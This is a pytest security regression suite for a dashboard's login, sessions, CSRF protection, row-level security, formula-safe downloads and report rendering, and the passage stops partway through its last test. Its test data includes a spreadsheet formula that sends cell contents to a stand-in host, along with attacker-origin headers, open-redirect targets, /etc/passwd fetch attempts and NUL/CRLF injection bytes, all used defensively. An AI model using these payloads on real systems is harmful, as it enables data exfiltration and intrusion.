"""Issue 16: access that holds against a careless deployment and a hostile network.

Each test reproduces one attack that worked before and fails if it works again: a weak or placeholder
secret, a login that bypasses row-level security, a forged cookie, formulas in downloads, sessions that
outlive logout, regional users reading other provinces' ledger rows, password guessing, login CSRF,
missing headers, malformed requests, WeasyPrint fetching URLs, and personal data in logs.
"""
from __future__ import annotations

import base64
import http.server
import io
import json
import logging
import re
import secrets
import statistics
import tempfile
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit

import openpyxl
import psycopg
import pytest
import yaml
from psycopg import sql
from starlette.testclient import TestClient
from typer.testing import CliRunner

from ingestion import access
from sinergi.cli import app as cli
from sinergi.core import envfile, settings
from sinergi.serve import report, spreadsheet
from sinergi.serve.web import users
from sinergi.serve.web.app import create_app
from sinergi.serve.web.db import UnsafeSetup
from sinergi.serve.web.security import WebConfig

ROOT = settings.PROJECT_ROOT
PASSWORD = "kata-sandi-keamanan"
SECRET = secrets.token_urlsafe(32)
MONTH = "2024-02"
PROVINCE = "35"
HOSTILE = '=HYPERLINK("http://127.0.0.1:9/curi?d="&A1,"klik")'


class _Kept(logging.Handler):
    """Every log record of the session from here on (installed at collection, before any warehouse is
    built), for the scan for personal data."""

    def __init__(self):
        super().__init__(logging.INFO)
        self.lines: list[str] = []

    def emit(self, record):
        try:
            self.lines.append(self.format(record))
        except Exception:  # a record that cannot be formatted is not what this test is about
            pass


LOGS = _Kept()
logging.getLogger().addHandler(LOGS)
for _name in ("ingestion", "sinergi"):
    if logging.getLogger(_name).getEffectiveLevel() > logging.INFO:
        logging.getLogger(_name).setLevel(logging.INFO)
STARTED = time.time()


# --- fixtures ------------------------------------------------------------------------------------

def _web_login(url: str) -> str:
    parts = urlsplit(url)
    return urlunsplit(parts._replace(netloc=f"{access.WEB}@{parts.hostname}:{parts.port or 5432}"))


def _one(url, query, params=None):
    with psycopg.connect(url) as conn:
        return conn.execute(query, params).fetchone()


def _all(url, query, params=None):
    with psycopg.connect(url) as conn:
        return conn.execute(query, params).fetchall()


def _run(url, query, params=None):
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute(query, params)


@pytest.fixture(scope="module")
def warehouse(defective_warehouse):
    for name, role in (("sek_analis", "analyst"), ("sek_auditor", "auditor"), ("sek_jatim", f"wilayah:{PROVINCE}")):
        users.add(defective_warehouse, name, PASSWORD, role)
    return defective_warehouse


@pytest.fixture(scope="module")
def web(warehouse):
    """The dashboard as deployed: through sinergi_web, with a strong secret."""
    app = create_app(_web_login(warehouse), config=WebConfig.from_env(SECRET, env={}))
    with TestClient(app):  # runs the lifespan (pruning) once
        yield app


def _client(app, address: str | None = None, https: bool = False) -> TestClient:
    return TestClient(app, base_url="https://testserver" if https else "http://testserver",
                      client=(address or f"10.{secrets.randbelow(250)}.{secrets.randbelow(250)}.{secrets.randbelow(250)}",
                              50000), follow_redirects=False)


def _csrf(html: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', html)[1]


def _login(client: TestClient, username: str, password: str = PASSWORD, lanjut: str = "/", **headers):
    token = _csrf(client.get("/masuk").text)
    return client.post("/masuk", data={"username": username, "password": password, "lanjut": lanjut,
                                       "csrf": token}, headers=headers)


def _signed_in(app, username: str, **kwargs) -> TestClient:
    client = _client(app, **kwargs)
    response = _login(client, username)
    assert response.status_code == 303, response.text
    return client


def _logged_out(response) -> bool:
    return response.status_code == 303 and response.headers["location"].startswith("/masuk")


# --- 1. weak setups are refused at start ---------------------------------------------------------

@pytest.mark.parametrize("secret", ["", "change-me", "uji", "bench", "x" * 64, "change-me" * 6, "kurang-dari-32-bait"])
def test_a_weak_or_placeholder_secret_is_refused_at_start(warehouse, secret):
    with pytest.raises(UnsafeSetup, match="SINERGI_WEB_SECRET"):
        create_app(_web_login(warehouse), secret=secret)


def test_a_missing_secret_is_refused_and_serve_says_why(warehouse, monkeypatch):
    monkeypatch.delenv("SINERGI_WEB_SECRET", raising=False)
    with pytest.raises(UnsafeSetup):
        create_app(_web_login(warehouse))
    monkeypatch.setenv("WAREHOUSE_URL", _web_login(warehouse))
    result = CliRunner().invoke(cli, ["serve"])
    assert result.exit_code == 1 and "SINERGI_WEB_SECRET" in result.output


def test_a_login_that_bypasses_row_level_security_is_refused(warehouse, monkeypatch):
    # The test server's own login is a superuser, as the demo's was.
    with pytest.raises(UnsafeSetup, match="superuser"):
        create_app(warehouse, secret=SECRET)
    monkeypatch.setenv("WAREHOUSE_URL", warehouse)
    monkeypatch.setenv("SINERGI_WEB_SECRET", SECRET)
    result = CliRunner().invoke(cli, ["serve", "--port", "1"])
    assert result.exit_code == 1 and "superuser" in result.output and "sinergi_web" in result.output
    # A BYPASSRLS login, and one holding the owners' privileges, likewise.
    bypass = f"sek_bypass_{secrets.token_hex(4)}"
    owner = f"sek_owner_{secrets.token_hex(4)}"
    _run(warehouse, sql.SQL("create role {} login bypassrls").format(sql.Identifier(bypass)))
    _run(warehouse, sql.SQL("create role {} login inherit in role {}").format(sql.Identifier(owner),
                                                                              sql.Identifier(access.TRANSFORMER)))
    _run(warehouse, sql.SQL("grant connect on database {} to {}, {}").format(
        sql.Identifier(urlsplit(warehouse).path.strip("/")), sql.Identifier(bypass), sql.Identifier(owner)))
    try:
        for role, why in ((bypass, "BYPASSRLS"), (owner, "pemilik")):
            parts = urlsplit(warehouse)
            url = urlunsplit(parts._replace(netloc=f"{role}@{parts.hostname}:{parts.port or 5432}"))
            with pytest.raises(UnsafeSetup, match=why):
                create_app(url, secret=SECRET)
    finally:
        for role in (bypass, owner):
            _run(warehouse, sql.SQL("drop owned by {}").format(sql.Identifier(role)))
            _run(warehouse, sql.SQL("drop role {}").format(sql.Identifier(role)))


def test_env_example_holds_no_usable_secret_and_init_writes_strong_ones(tmp_path):
    example = envfile.read(ROOT / ".env.example")
    secret_names = {n for n in example if re.search(r"PASSWORD|SECRET|KEY|FERNET", n)}
    assert secret_names == set(envfile.SECRETS)
    assert len(envfile.problems(example)) == len(envfile.SECRETS)       # every one refused as it stands
    out = tmp_path / ".env"
    assert set(envfile.write(out)) == set(envfile.SECRETS)
    assert out.stat().st_mode & 0o077 == 0                                 # owner only
    assert envfile.problems(envfile.read(out)) == []
    with pytest.raises(FileExistsError):
        envfile.write(out)                                                 # never overwritten silently
    assert envfile.main(["check", "--env-file", str(ROOT / ".env.example")]) == 1
    assert envfile.main(["check", "--env-file", str(out)]) == 0
    assert envfile.problem("X", "Ab1-Cd2_Ef3.Gh4") is not None             # too short
    assert envfile.problem("X", secrets.token_urlsafe(32)) is None


def test_the_deployment_checks_its_secrets_before_anything_starts():
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text(encoding="utf-8"))
    services = compose["services"]
    check = services["secrets-check"]
    assert check["command"] == ["python", "-m", "sinergi.core.envfile", "check"]
    assert set(envfile.SECRETS) <= set(check["environment"])
    for name, service in services.items():
        if name != "secrets-check" and name != "redis":
            assert service["depends_on"]["secrets-check"]["condition"] == "service_completed_successfully", name


# --- 2. sessions live on the server; the role comes from the account -------------------------

def _old_style_cookie(payload: dict) -> str:
    """What Starlette's SessionMiddleware signed before: base64 JSON + itsdangerous timestamp signature."""
    from itsdangerous import TimestampSigner
    data = base64.b64encode(json.dumps(payload).encode())
    return TimestampSigner(SECRET).sign(data).decode()


def test_a_forged_cookie_carrying_a_role_is_useless(web, warehouse):
    for role in (access.AUDITOR, "postgres"):
        forged = _old_style_cookie({"user": {"username": "sek_analis", "role": role}})
        client = _client(web)
        for name in ("session", "sinergi_sesi"):
            client.cookies.set(name, forged)
        assert _logged_out(client.get("/kur"))
    client = _client(web)
    client.cookies.set("sinergi_sesi", secrets.token_urlsafe(32))
    assert _logged_out(client.get("/"))
    # The cookie holds a random id only; the server keeps its keyed hash, never the id itself.
    client = _signed_in(web, "sek_analis")
    token = client.cookies.get("sinergi_sesi")
    assert len(token) >= 40 and "sek_analis" not in token and "sinergi" not in token
    assert _one(warehouse, "select count(*) from access.web_session where id_hash = %s", (token,))[0] == 0


def test_the_role_is_read_from_the_account_on_every_request(web, warehouse):
    users.add(warehouse, "sek_berubah", PASSWORD, "analyst")
    client = _signed_in(web, "sek_berubah")
    assert "Analis nasional" in client.get("/").text
    try:
        _run(warehouse, "update access.web_user set role_name = %s where username = 'sek_berubah'", (access.AUDITOR,))
        assert "Auditor" in client.get("/").text
        for forged in ("postgres", access.LOADER, "sinergi_wilayah_3x"):
            _run(warehouse, "update access.web_user set role_name = %s where username = 'sek_berubah'", (forged,))
            assert _logged_out(client.get("/"))
    finally:
        users.remove(warehouse, "sek_berubah")
    # And the dashboard's login cannot become an owner however it is asked.
    with psycopg.connect(_web_login(warehouse)) as conn:
        for role in (access.LOADER, access.TRANSFORMER, "postgres"):
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                conn.execute(sql.SQL("set role {}").format(sql.Identifier(role)))
            conn.rollback()


def test_a_session_ends_at_logout_password_change_role_change_and_removal(web, warehouse):
    users.add(warehouse, "sek_sesi", PASSWORD, "analyst")
    # Logout: the old cookie, replayed, opens nothing.
    client = _signed_in(web, "sek_sesi")
    cookie = client.cookies.get("sinergi_sesi")
    page = client.get("/")
    assert page.status_code == 200
    assert client.post("/keluar", data={"csrf": _csrf(page.text)}).status_code == 303
    replay = _client(web)
    replay.cookies.set("sinergi_sesi", cookie)
    assert _logged_out(replay.get("/"))
    # Password change and role change (`sinergi user add` again) end every open session.
    for change in (lambda: users.add(warehouse, "sek_sesi", PASSWORD + "-baru", "analyst"),
                   lambda: users.add(warehouse, "sek_sesi", PASSWORD, "auditor")):
        users.add(warehouse, "sek_sesi", PASSWORD, "analyst")
        client = _signed_in(web, "sek_sesi")
        assert client.get("/").status_code == 200
        change()
        assert _logged_out(client.get("/"))
    # Removal, through the command line.
    users.add(warehouse, "sek_sesi", PASSWORD, "analyst")
    client = _signed_in(web, "sek_sesi")
    result = CliRunner().invoke(cli, ["user", "remove", "sek_sesi"], env={"WAREHOUSE_URL": warehouse})
    assert result.exit_code == 0, result.output
    assert _logged_out(client.get("/"))
    assert _login(_client(web), "sek_sesi").status_code == 401
    assert CliRunner().invoke(cli, ["user", "remove", "sek_sesi"], env={"WAREHOUSE_URL": warehouse}).exit_code == 1


def test_idle_and_absolute_session_lifetimes(web, warehouse):
    users.add(warehouse, "sek_lama", PASSWORD, "analyst")
    for column, age in (("last_seen", "31 minutes"), ("created_at", "8 hours 1 minute")):
        client = _signed_in(web, "sek_lama")
        assert client.get("/").status_code == 200
        _run(warehouse, sql.SQL("update access.web_session set {} = now() - %s::interval "
                                "where username = 'sek_lama'").format(sql.Identifier(column)), (age,))
        assert _logged_out(client.get("/")), column
    users.remove(warehouse, "sek_lama")


# --- 3. login: throttling, timing, CSRF ---------------------------------------------------------

def test_password_guessing_gets_429_with_retry_after_per_account_and_per_client(warehouse):
    app = create_app(_web_login(warehouse), config=WebConfig.from_env(SECRET, env={}, account_failures=3,
                                                                       client_failures=5))
    users.add(warehouse, "sek_tebak", PASSWORD, "analyst")
    client = _client(app)
    for _ in range(3):
        assert _login(client, "sek_tebak", "salah-salah-salah").status_code == 401
    throttled = _login(client, "sek_tebak")  # even the right password, once throttled
    assert throttled.status_code == 429 and "Coba lagi dalam" in throttled.text
    assert 0 < int(throttled.headers["Retry-After"]) <= 15 * 60
    # From another address too (per account), and an unknown name is throttled the same way.
    assert _login(_client(app), "sek_tebak").status_code == 429
    other = _client(app)
    for _ in range(3):
        assert _login(other, "sek_tidak_ada", "salah-salah-salah").status_code == 401
    assert _login(other, "sek_tidak_ada", "salah-salah-salah").status_code == 429
    # Per client: one address trying many names is stopped after 5 failures in all.
    spray = _client(app)
    for n in range(5):
        assert _login(spray, f"sek_semprot_{n}", "salah-salah-salah").status_code == 401
    assert _login(spray, "sek_analis").status_code == 429
    assert _login(_client(app), "sek_analis").status_code == 303          # the account itself is not locked
    events = {r[0] for r in _all(warehouse, "select event from access.access_log where username like 'sek_%'")}
    assert {"masuk_gagal", "masuk_ditahan", "masuk"} <= events


def test_an_unknown_user_costs_the_same_scrypt_as_a_known_one(web, monkeypatch):
    calls = []
    real = users.hash_password
    monkeypatch.setattr(users, "hash_password", lambda *a, **k: calls.append(1) or real(*a, **k))
    users._dummy_hash()  # made once per process
    timings = {"sek_analis": [], "sek_belum_pernah_ada": []}
    for _ in range(3):
        for name in timings:
            client = _client(web)
            token = _csrf(client.get("/masuk").text)
            calls.clear()
            started = time.perf_counter()
            response = client.post("/masuk", data={"username": name, "password": "salah-salah-salah", "csrf": token})
            timings[name].append(time.perf_counter() - started)
            assert response.status_code == 401 and len(calls) == 1, name     # one scrypt either way
    known, unknown = (statistics.median(t) for t in timings.values())
    assert known > 0.01 and unknown > 0.01
    assert max(known, unknown) / min(known, unknown) < 3


def test_login_and_logout_need_a_csrf_token_and_a_same_origin_request(web, warehouse):
    client = _client(web)
    token = _csrf(client.get("/masuk").text)
    form = {"username": "sek_analis", "password": PASSWORD}
    assert client.post("/masuk", data=form).status_code == 403                           # no token
    assert client.post("/masuk", data={**form, "csrf": "0" * 64}).status_code == 403     # a wrong one
    for headers in ({"Origin": "http://penyerang.example"}, {"Origin": "null"},
                    {"Referer": "http://penyerang.example/halaman"}, {"Sec-Fetch-Site": "cross-site"}):
        refused = client.post("/masuk", data={**form, "csrf": token}, headers=headers)
        assert refused.status_code == 403 and "sinergi_sesi" not in refused.cookies, headers
    # Another browser's token does not do either (it is bound to this browser's cookie).
    stranger = _client(web)
    stranger.get("/masuk")
    assert stranger.post("/masuk", data={**form, "csrf": token}).status_code == 403
    ok = client.post("/masuk", data={**form, "csrf": token}, headers={"Origin": "http://testserver"})
    assert ok.status_code == 303
    # Logout: without the page's token it is refused and the session lives on.
    assert client.post("/keluar").status_code == 403
    assert client.post("/keluar", data={"csrf": _csrf(client.get("/").text)},
                       headers={"Origin": "http://penyerang.example"}).status_code == 403
    assert client.get("/").status_code == 200


def test_the_target_upload_needs_a_csrf_token_and_a_national_role(web, warehouse):
    """Issue 20: the targets upload is a POST like any other (token, same origin), and only analysts and
    auditors may add targets; nothing is stored when it is refused."""
    users.add(warehouse, "sek_cabang", PASSWORD, "cabang:K1301")
    count = lambda: _one(warehouse, "select count(*) from audit.target")[0]  # noqa: E731
    before = count()
    upload = {"berkas": ("t.csv", b"cabang,wilayah,metrik,tahun,nilai\nK1301,,K1,2024,99\n", "text/csv")}
    analyst = _signed_in(web, "sek_analis")
    token = _csrf(analyst.get("/target").text)
    assert analyst.post("/target/impor", files=upload).status_code == 403                          # no token
    assert analyst.post("/target/impor", files=upload, data={"csrf": token},
                        headers={"Origin": "http://penyerang.example"}).status_code == 403           # another site
    for name in ("sek_jatim", "sek_cabang"):                                                        # not national
        client = _signed_in(web, name)
        page = client.get("/target").text
        assert 'id="unggah-target"' not in page
        refused = client.post("/target/impor", files=upload, data={"csrf": _csrf(page)})
        assert refused.status_code == 403 and "Hanya analis nasional dan auditor" in refused.text
    assert count() == before
    assert analyst.post("/target/impor", files=upload, data={"csrf": token}).status_code == 303
    assert count() == before + 1


def test_no_open_redirect_after_login(web):
    for target in ("//penyerang.example", "/\\penyerang.example", "https://penyerang.example", "javascript:alert(1)"):
        assert _login(_client(web), "sek_analis", lanjut=target).headers["location"] == "/", target
    assert _login(_client(web), "sek_analis", lanjut="/kur?bank=BRI").headers["location"] == "/kur?bank=BRI"


# --- 4. formula-safe downloads ------------------------------------------------------------------

FORMULAS = [HOSTILE, "+62 812", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1dSUM(1)", "  =1+1"]


def test_the_neutraliser_prefixes_formulas_and_keeps_numbers():
    from decimal import Decimal
    rows = [{"teks": t, "angka": 1.5, "bulat": -3, "desimal": Decimal("-2.50")} for t in FORMULAS]
    rows.append({"teks": "Koperasi Maju", "angka": 0, "bulat": 7, "desimal": Decimal("1")})
    text = spreadsheet.to_csv(rows, ["teks", "angka", "bulat", "desimal"]).decode("utf-8-sig")
    import csv
    parsed = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[0] for r in parsed] == ["'" + t for t in FORMULAS] + ["Koperasi Maju"]
    assert [r[2] for r in parsed][:1] == ["-3"] and parsed[0][3] == "-2.50"           # numbers untouched
    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheet.to_xlsx(rows, ["teks", "angka", "bulat", "desimal"], "x"))).active
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s" and not str(row[0].value).startswith("=")
        assert isinstance(row[2].value, int) and isinstance(row[3].value, (int, float))    # numbers, not text
    assert sheet.cell(2, 1).value == "'" + HOSTILE


def test_only_the_neutraliser_writes_spreadsheets():
    for path in [ROOT / "sinergi" / "serve" / "report.py", *(ROOT / "sinergi" / "serve" / "web").glob("*.py")]:
        source = path.read_text(encoding="utf-8")
        assert not re.search(r"^\s*(import csv|from openpyxl|import openpyxl)", source, re.M), path


def test_a_formula_in_a_cooperative_name_stays_text_in_csv_and_xlsx_downloads(web, warehouse):
    key = _one(warehouse, "select nik_koperasi, nama_koperasi from marts.fct_cooperative_coverage "
                          "where as_of = '2024-02-01' and not is_covered order by nik_koperasi limit 1")
    _run(warehouse, "update marts.fct_cooperative_coverage set nama_koperasi = %s where nik_koperasi = %s",
         (HOSTILE, key[0]))
    try:
        client = _signed_in(web, "sek_analis")
        csv_text = client.get(f"/koperasi?bulan={MONTH}&cari=HYPERLINK&format=csv").content.decode("utf-8-sig")
        assert "'" + HOSTILE.replace('"', '""') in csv_text and "\n=HYPERLINK" not in csv_text and ',"=HYP' not in csv_text
        book = openpyxl.load_workbook(io.BytesIO(client.get(f"/koperasi?bulan={MONTH}&cari=HYPERLINK&format=xlsx").content))
        cell = book.active.cell(2, 2)
        assert cell.value == "'" + HOSTILE and cell.data_type == "s"
        page = client.get(f"/koperasi?bulan={MONTH}&cari=HYPERLINK").text
        assert "=HYPERLINK(&#34;http" in page or "=HYPERLINK(&quot;http" in page     # escaped on the page
    finally:
        _run(warehouse, "update marts.fct_cooperative_coverage set nama_koperasi = %s where nik_koperasi = %s",
             (key[1], key[0]))


def test_the_reports_entity_lists_are_formula_safe(warehouse, tmp_path, monkeypatch):
    real = report.gather

    def planted(*args, **kwargs):
        data = real(*args, **kwargs)
        k2 = next(m for m in data["metrics"] if m["metric"] == "K2")
        k2["failing"][0]["nama"] = HOSTILE
        return data

    monkeypatch.setattr(report, "gather", planted)
    written = report.write(warehouse, MONTH, tmp_path)
    text = (tmp_path / f"entitas_gagal_{MONTH}_K2.csv").read_text(encoding="utf-8")
    assert "'" + HOSTILE.replace('"', '""') in text and ',"=HYP' not in text
    assert (tmp_path / f"entitas_gagal_{MONTH}_K2.csv").stat().st_mode & 0o077 == 0   # names: owner only
    assert written.pdf.read_bytes().startswith(b"%PDF")


# --- 5. row-level security on the ledger marts ------------------------------------------------

QUALITY_MARTS = ("fct_deliveries", "fct_quarantine_reasons", "fct_expectation_results")


def _as(url, role, query):
    with psycopg.connect(url) as conn, conn.transaction():
        conn.execute(sql.SQL("set local role {}").format(sql.Identifier(role)))
        return conn.execute(query).fetchall()


@pytest.fixture
def expectation_results(warehouse):
    """The test warehouse is built without a Great Expectations run: results for one delivery of a branch
    of the province, one of another province and one national delivery, removed afterwards."""
    planted = []
    if _one(warehouse, "select count(*) from marts.fct_expectation_results")[0] == 0:
        planted = _all(warehouse, """
            select distinct on (sender_region = %(p)s, sender_region = 'ID') load_id, sender, unit, sender_region
            from marts.fct_deliveries where sender_region is not null order by sender_region = %(p)s,
                sender_region = 'ID', load_id""", {"p": PROVINCE})
        for load_id, sender, unit, region in planted:
            _run(warehouse, "insert into marts.fct_expectation_results (load_id, sender, unit, suite, expectation, "
                            "critical, success, run_id, sender_region) values (%s, %s, %s, 'uji', "
                            "'expect_table_row_count_to_be_between', true, true, 'uji', %s)",
                 (load_id, sender, unit, region))
    yield
    for load_id, *_ in planted:
        _run(warehouse, "delete from marts.fct_expectation_results where load_id = %s and run_id = 'uji'", (load_id,))


def test_a_regional_user_sees_only_their_provinces_senders_in_the_quality_marts(web, warehouse, expectation_results):
    role = access.add_province_role(warehouse, PROVINCE)
    branches = dict(_as(warehouse, access.ANALYST, "select branch_code, province_code from marts.dim_branch"))
    for mart in QUALITY_MARTS:
        seen = dict(_as(warehouse, role, f"select coalesce(sender_region, '?'), count(*) from marts.{mart} group by 1"))
        assert set(seen) <= {"ID", PROVINCE} and "ID" in seen, (mart, seen)
        units = _as(warehouse, role, f"select distinct sender, unit from marts.{mart}")
        assert all(s != "bpjstk" or branches.get(u) == PROVINCE for s, u in units), mart
        national = dict(_as(warehouse, access.ANALYST, f"select coalesce(sender_region, '?'), count(*) from marts.{mart} group by 1"))
        assert sum(national.values()) > sum(seen.values()), mart                        # others exist
        if mart != "fct_quarantine_reasons":                                             # every batch has these
            assert seen.get(PROVINCE, 0) > 0 and set(national) - {"ID", PROVINCE}, (mart, national)
    # Row-level security is on for every mart a regional user may read that holds regional rows.
    unprotected = _as(warehouse, access.ANALYST, """
        select c.relname from pg_class c join pg_namespace n on n.oid = c.relnamespace
        where n.nspname = 'marts' and c.relkind = 'r' and not c.relrowsecurity
          and exists (select 1 from information_schema.columns i where i.table_schema = 'marts'
                      and i.table_name = c.relname and i.column_name in
                      ('province_code', 'regency_code', 'region_code', 'region', 'branch_code', 'sender_region'))""")
    assert unprotected == []
    # And on the page: the regional user's "Kualitas data" lists no branch of another province.
    page = _signed_in(web, "sek_jatim").get(f"/kualitas?bulan={MONTH}").text
    listed = set(re.findall(r"<td>bpjstk</td><td>(K\d+)</td>", page))
    assert listed and all(branches.get(u) == PROVINCE for u in listed)


# --- 6. headers, malformed requests, the report's fetcher -------------------------------------

def test_security_headers_on_pages_downloads_and_static_files(web):
    client = _signed_in(web, "sek_analis")
    for path in ("/masuk", "/", f"/koperasi?bulan={MONTH}", f"/koperasi?bulan={MONTH}&format=csv", "/static/style.css"):
        headers = client.get(path).headers
        csp = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp and "script-src 'self'" in csp, path
        assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff", path
        assert headers["referrer-policy"] == "same-origin", path
        if not path.startswith("/static/"):
            assert headers["cache-control"] == "no-store", path
        assert "server" not in headers or "uvicorn" not in headers["server"].lower()
    # Pages work under that policy: no inline script or style anywhere; the charts' style is a stylesheet.
    style = client.get("/grafik.css")
    assert style.headers["content-type"].startswith("text/css") and ".pygal-chart .graph > .background" in style.text
    for path in ("/", "/wilayah", f"/koperasi?bulan={MONTH}", "/kur", "/perizinan", "/kualitas"):
        html = client.get(path).text
        assert not re.search(r"<script|<style|\sstyle=|\son[a-z]+=", html, re.I), path


def test_session_cookie_flags_and_the_secure_option(warehouse):
    plain = create_app(_web_login(warehouse), config=WebConfig.from_env(SECRET, env={}))
    cookie = next(c for c in _login(_client(plain), "sek_analis").headers.get_list("set-cookie")
                  if c.startswith("sinergi_sesi=")).lower()
    assert "httponly" in cookie and "samesite=strict" in cookie and "secure" not in cookie
    app = create_app(_web_login(warehouse), config=WebConfig.from_env(SECRET, env={"SINERGI_WEB_HTTPS": "true"}))
    client = _client(app, https=True)
    response = _login(client, "sek_analis")
    cookies = response.headers.get_list("set-cookie")
    session = next(c for c in cookies if c.startswith("__Host-sinergi_sesi="))
    assert "Secure" in session and "Path=/" in session and "Domain" not in session
    assert response.headers["strict-transport-security"].startswith("max-age=")
    assert client.get("/").status_code == 200


@pytest.mark.parametrize("path", ["/koperasi?cari=%00", "/koperasi?cari=a%00b", "/koperasi?cari=%C3%28",
                                  "/koperasi?cari=%FF", "/%00", "/kur%00", "/masuk?lanjut=/%00", "/koperasi?cari=%0D%0A"])
def test_malformed_bytes_in_a_request_get_400_with_a_message(web, path):
    client = _signed_in(web, "sek_analis")
    response = client.get(path)
    assert response.status_code == 400 and "Permintaan tidak sah" in response.text
    assert response.headers["x-content-type-options"] == "nosniff"


def test_a_nul_byte_in_the_login_form_gets_400(web):
    client = _client(web)
    token = _csrf(client.get("/masuk").text)
    response = client.post("/masuk", data={"username": "sek\x00analis", "password": PASSWORD, "csrf": token})
    assert response.status_code == 400


class _Counting(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):
        _Counting.hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args):
        pass


def test_the_reports_renderer_fetches_only_its_own_files(tmp_path):
    from weasyprint import HTML
    for url in ("file:///etc/passwd", "http://127.0.0.1:9/x.png", "https://example.com/a.css", "ftp://x/y",
                (tmp_path / "rahasia.txt").as_uri(), (report.TEMPLATES / ".." / "report.py").as_uri()):
        with pytest.raises(ValueError):
            report.fetcher().fetch(url)
    assert report.fetcher().fetch((report.TEMPLATES / "laporan.html").as_uri()).read().startswith(b"<")
    # Rendering a document that plants URLs (as a name could): nothing reaches a server.
    server = http.server.HTTPServer(("127.0.0.1", 0), _Counting)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    planted = (f'<p>Koperasi <img src="http://127.0.0.1:{port}/gambar.png"></p>'
               f'<link rel="stylesheet" href="http://127.0.0.1:{port}/gaya.css"><img src="file:///etc/hostname">')
    try:
        HTML(string=planted, base_url=str(tmp_path), url_fetcher=report.fetcher()).write_pdf(tmp_path / "a.pdf")
        assert _Counting.hits == []
        HTML(string=planted, base_url=str(tmp_path)).write_pdf(tmp_path / "b.pdf")  # the default fetcher would
        assert _Counting.hits
    finally:
        server.shutdown()


# --- 7. the access log -----------------------------------------------------------------------

def test_the_access_log_records_logins_downloads_and_pages_with_names_for_auditors(web, warehouse):
    since = _one(warehouse, "select now()")[0]
    analyst = _signed_in(web, "sek_analis")
    download = analyst.get(f"/koperasi?bulan={MONTH}&provinsi={PROVINCE}&format=csv")
    rows = len(download.content.decode("utf-8-sig").strip().splitlines()) - 1
    auditor = _signed_in(web, "sek_auditor")
    kur = auditor.get(f"/kur?bulan={MONTH}")
    shown = kur.text.count('<td class="token">')
    _login(_client(web), "sek_auditor", "salah-salah-salah")
    log = _all(warehouse, "select event, username, role_name, path, rows from access.access_log "
                          "where at >= %s order by id", (since,))
    assert ("masuk", "sek_analis", access.ANALYST) in {r[:3] for r in log}
    downloads = [r for r in log if r[0] == "unduh" and r[1] == "sek_analis"]
    assert downloads and downloads[-1][4] == rows > 0 and "format=csv" in downloads[-1][3]
    names = [r for r in log if r[0] == "halaman_bernama"]
    assert names and names[-1][1] == "sek_auditor" and names[-1][4] == shown > 0
    assert any(r[0] == "masuk_gagal" and r[1] == "sek_auditor" for r in log)
    # Auditors read it, on "Kualitas data" too; analysts and regional users do not.
    page = auditor.get(f"/kualitas?bulan={MONTH}").text
    assert 'id="log-akses"' in page and "sek_analis" in page
    assert 'id="log-akses"' not in analyst.get(f"/kualitas?bulan={MONTH}").text
    for role in (access.ANALYST, access.add_province_role(warehouse, PROVINCE)):
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            _as(warehouse, role, "select 1 from access.access_log limit 1")
    _as(warehouse, access.AUDITOR, "select 1 from access.access_log limit 1")


def test_the_access_log_is_kept_as_configured_and_the_dashboard_cannot_erase_it(warehouse):
    _run(warehouse, "insert into access.access_log (at, event, username) values "
                    "(now() - interval '400 days', 'masuk', 'sek_kuno'), (now() - interval '40 days', 'masuk', 'sek_lalu'), "
                    "(now() - interval '20 days', 'masuk', 'sek_baru')")
    app = create_app(_web_login(warehouse), config=WebConfig.from_env(SECRET, env={"SINERGI_ACCESS_LOG_DAYS": "365"}))
    with TestClient(app):
        pass  # pruned on start
    left = {r[0] for r in _all(warehouse, "select username from access.access_log "
                                          "where username in ('sek_kuno', 'sek_lalu', 'sek_baru')")}
    assert left == {"sek_lalu", "sek_baru"}
    with pytest.raises(UnsafeSetup):
        WebConfig.from_env(SECRET, env={"SINERGI_ACCESS_LOG_DAYS": "7"})           # never below 30 days
    with psycopg.connect(_web_login(warehouse)) as conn:
        conn.execute("select access.prune_access_log(1)")                          # asks for 1 day: 30 kept
        conn.commit()
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            conn.execute("delete from access.access_log")
    left = {r[0] for r in _all(warehouse, "select username from access.access_log "
                                          "where username in ('sek_lalu', 'sek_baru')")}
    assert left == {"sek_baru"}


# --- 8. no personal data in logs, the ledger or the report ------------------------------------

def _vault(url):
    with psycopg.connect(url) as conn:
        niks = {r[0] for r in conn.execute("select distinct nik from vault.person where nik is not null")}
        names = {r[0].strip().lower() for r in conn.execute("select distinct nama from vault.person where nama is not null")
                 if len(r[0].strip()) >= 8 and " " in r[0].strip()}
    return niks, names


# NIK-shaped numbers the project's own test fixtures hold (dbt unit tests): synthetic, logged by dbt.
FIXTURE_NUMBERS = {n for path in (ROOT / "dbt_project").rglob("*.yml")
                   for n in re.findall(r"(?<!\d)\d{16}(?!\d)", path.read_text(encoding="utf-8"))}


def _found(text: str, niks: set[str], names: set[str], with_names: bool = True) -> list[str]:
    from lokal.samaran import detect_pii
    hits = [f"NIK {m.value}" for m in detect_pii(text, types=["NIK"], min_confidence="high")
            if m.value not in FIXTURE_NUMBERS]
    hits += [f"NIK {n}" for n in set(re.findall(r"(?<!\d)\d{16}(?!\d)", text)) & niks]
    if with_names:
        lowered = text.lower()
        # A name is looked for only where all its words occur (a set lookup), then as the whole name:
        # thousands of names times megabytes of dbt log were most of this test's time.
        words = set(re.findall(r"[a-z]+", lowered))
        hits += [f"nama {n}" for n in names if set(re.findall(r"[a-z]+", n)) <= words and n in lowered]
    return hits


def test_no_plain_nik_or_name_in_logs_ledger_or_report(warehouse, tmp_path):
    niks, names = _vault(warehouse)
    assert len(niks) > 1000 and len(names) > 1000
    blobs: dict[str, str] = {}
